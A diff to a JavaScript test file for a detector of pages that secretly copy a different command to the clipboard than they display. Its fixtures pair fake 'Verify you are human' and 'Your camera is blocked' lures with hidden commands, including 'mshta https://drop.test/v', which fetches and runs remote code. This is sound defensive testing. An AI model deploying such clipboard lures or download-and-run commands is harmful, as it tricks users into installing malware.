@@ -41,7 +41,30 @@ describe('what code copies and the page does not show', () => {
       `Send to ${SHOWN}`,
       'copies-other-address',
     ],
+    [
+      'a command by a name that is used once',
+      `const text = '${COMMAND}'; area.value = text; area.select(); document.execCommand('copy')`,
+      'Verify you are human',
+      'copies-hidden-command',
+    ],
+    [
+      'one of two commands',
+      `await navigator.clipboard.writeText(mac ? '${COMMAND}' : 'mshta https://drop.test/v')`,
+      'Your camera is blocked',
+      'copies-hidden-command',
+      'copies-hidden-command',
+    ],
     // Honest.
+    [
+      'a command by a name that is drawn too',
+      `const command = '${COMMAND}'; pre.textContent = command; copy = () => navigator.clipboard.writeText(command)`,
+      'Install',
+    ],
+    [
+      'one of two commands that are shown',
+      `navigator.clipboard.writeText(mac ? 'brew install tea' : '${COMMAND}')`,
+      `brew install tea or ${COMMAND}`,
+    ],
     ['a command that is shown', `navigator.clipboard.writeText('${COMMAND}')`, `Run ${COMMAND} in a terminal`],
     [
       'a command that is drawn',
